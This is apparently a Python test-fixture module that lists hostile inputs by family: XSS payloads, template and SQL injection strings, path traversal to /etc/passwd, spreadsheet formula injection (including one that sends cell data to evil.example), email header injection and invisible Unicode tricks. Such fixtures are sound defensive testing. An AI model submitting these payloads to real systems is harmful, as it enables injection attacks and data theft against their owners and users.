"""What people with bad intentions, broken keyboards or strange devices type. Each has bitten somebody."""

from __future__ import annotations

# Families of texts. All of a family go together into long fields and one by one, in turn, into short ones.
FAMILIES: dict[str, tuple[str, ...]] = {
    "scripts": (
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        '"><img src=x onerror=alert(1)>',
        "'><svg/onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        '<form action="https://evil.example"><button formaction=javascript:alert(1)>go',
        "</textarea></title></script><script>alert(1)</script>",
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
        '<a href="javascript:alert(1)">x</a> [x](javascript:alert(1)) ![x](x"onerror="alert(1))',
        '<div hx-get="/desk/" hx-trigger="load" hx-on:load="alert(1)" data-keep id=main>',
        "<style>body{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example>",
        "--><!--><script>alert(1)//-->",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        '" autofocus onfocus=alert(1) x="',
        "\" style=\"position:fixed;inset:0\" class='btn' x='",
    ),
    "templates, queries, sheets": (
        "{{ settings.SECRET_KEY }}",
        "{{7*7}} {{ request.user.password }}",
        "{% include 'staff/login.html' %}",
        "{% load static %}{% debug %}",
        "{0.__class__.__mro__} {ticket.customer}",
        "%(who)s %(promise)s %s %d %%",
        "${7*7} #{7*7} <%= 7*7 %> @{7*7}",
        "{{ '{{' }} {# gone? #} {%",
        "'; DROP TABLE complaints_ticket; --",
        "1' OR '1'='1",
        "../../../../etc/passwd",
        "%' UNION SELECT password FROM staff_user --",
        "\\'; SELECT pg_sleep(10); --",
        "a & b | !c <-> d:* ((",
        "%_%_%",
        "=cmd|'/C calc'!A0",
        '=HYPERLINK("https://evil.example?"&A1,"x")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
    ),
    "lines and headers": (
        "Hello\r\nBcc: evil@example.net\r\n\r\nbody",
        "Re: x\nX-Injected: yes",
        "a\u2028Bcc: evil@example.net\u2029b",
        "chen@example.org, evil@example.net",
        "=?utf-8?q?=0ABcc:_evil@example.net?=",
        '"Chen" <evil@example.net>',
    ),
    "invisible": (
        "a\x00b\x01c\x1b[31mred\x7f\x9f",
        "gnp.\u202egpj.exe",
        "ad\u200bmin \ufeff\u2066x\u2069 \u00ad",
        "e\u0301\u0323\u0300" * 30,
        "\u0e01" + "\u0e49" * 60,
        "مرحبا שלום hello",
        "👩‍👩‍👧‍👦🇺🇬🏳️‍🌈 𝕮𝖍𝖊𝖓 ﷽",
        "Ａdmin аdmin ⓐdmin",
    ),
}


def whole(family: str) -> str:
    """The family as one long text."""
    return "\n".join(FAMILIES[family])


def lines_of(family: str) -> tuple[str, ...]:
    return FAMILIES[family]
